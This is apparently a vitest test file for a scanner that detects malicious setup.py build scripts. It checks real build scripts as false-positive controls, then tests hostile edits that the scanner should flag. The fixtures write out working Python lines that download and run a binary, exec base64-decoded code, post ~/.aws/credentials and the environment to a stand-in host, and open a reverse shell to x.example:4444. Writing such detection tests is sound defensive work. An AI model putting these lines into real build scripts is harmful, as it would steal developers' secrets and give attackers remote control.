/**
 * The setup.py scanner (src/checks/lib/python-code.ts) over real build scripts first — the
 * false-positive controls (fixtures/setup-py/, fixtures/PROVENANCE.md) — then hostile edits of
 * them, each said to be an edit.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { readBuildScript } from '../../src/checks/lib/python-code.js';

const real = (name: string): string => readFileSync(new URL(`../../fixtures/setup-py/${name}`, import.meta.url), 'utf8');
const RUAMEL = real('ruamel-yaml.setup.py');
const GSUTIL = real('gsutil.setup.py');
const NUMPY_CYTHON = real('numpy-cython-example.setup.py');
const CPYTHON_CPPEXT = real('cpython-test-cppext.setup.py');

describe('real build scripts: not suspicious', () => {
  it.each<[string, string, string[]]>([
    // subprocess for its build, os.environ throughout, URLs in metadata; install_lib and bdist_wheel overridden.
    ['ruamel.yaml 0.15.93', RUAMEL, ['install_lib', 'bdist_wheel']],
    // build_py and sdist overridden (sdist is no install-time command).
    ['gsutil 5.34', GSUTIL, ['build_py']],
    ['numpy 2.4.6 Cython example', NUMPY_CYTHON, []],
    ['CPython 3.13 test_cppext (reads CC, CFLAGS from the environment)', CPYTHON_CPPEXT, []],
  ])('%s', (_name, text, commands) => {
    expect(readBuildScript(text)).toEqual({ commands, flags: [] });
  });
});

describe('hostile edits of real build scripts', () => {
  const payload = (text: string, added: string): string => `${text}\n${added}\n`;
  it.each<[string, string, string]>([
    ['edit of gsutil: downloads and runs a binary', payload(GSUTIL, 'import urllib.request, subprocess\nurllib.request.urlretrieve("http://x.example/a", "/tmp/a")\nsubprocess.call(["/tmp/a"])'), 'download-and-run'],
    ['edit of the numpy example: exec of base64-decoded data', payload(NUMPY_CYTHON, 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'), 'exec-decoded'],
    ['edit of ruamel: sends ~/.aws/credentials', payload(RUAMEL, 'import requests\nrequests.post("https://x.example", data=open(os.path.expanduser("~/.aws/credentials")).read())'), 'exfiltration'],
    ['edit of cppext: sends the environment', payload(CPYTHON_CPPEXT, 'import urllib.request, json\nurllib.request.urlopen("https://x.example", json.dumps(dict(os.environ)).encode())'), 'exfiltration'],
    ['edit of numpy example: a reverse shell', payload(NUMPY_CYTHON, 'import socket, os, pty\ns = socket.socket(); s.connect(("x.example", 4444)); os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")'), 'reverse-shell'],
    ['edit of numpy example: a blob', payload(NUMPY_CYTHON, `X = "${'QUJD'.repeat(80)}"`), 'encoded-blob'],
    ['edit of numpy example: a hidden zlib import', payload(NUMPY_CYTHON, "exec(__import__('zlib').decompress(b'x'))"), 'dynamic-import'],
  ])('%s', (_name, text, flag) => {
    expect(readBuildScript(text).flags).toContain(flag);
  });

  it('a descriptor duplicated to silence a compiler is no reverse shell; beside a socket opened it is', () => {
    // The shape netifaces' and mercurial's setup.py use to quiet a configure test.
    const quiet = payload(NUMPY_CYTHON, 'import os\nlibraries = ["socket", "nsl"]\nnull = os.open(os.devnull, os.O_WRONLY)\nos.dup2(null, 2)');
    expect(readBuildScript(quiet).flags).not.toContain('reverse-shell');
    expect(readBuildScript(payload(quiet, 's = socket.socket()\nos.dup2(s.fileno(), 0)')).flags).toContain('reverse-shell');
  });

  it('a custom install command alone is reported, not suspicious', () => {
    const text = "from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        install.run(self)\nsetup(name='x', cmdclass={'install': I, 'develop': I})\n";
    expect(readBuildScript(text)).toEqual({ commands: ['install', 'develop'], flags: [] });
  });

  it('the cmdclass pattern stays linear on a long unclosed cmdclass', () => {
    expect(readBuildScript(`cmdclass={${"'a': b, ".repeat(20_000)}`).commands).toEqual([]);
  });
});
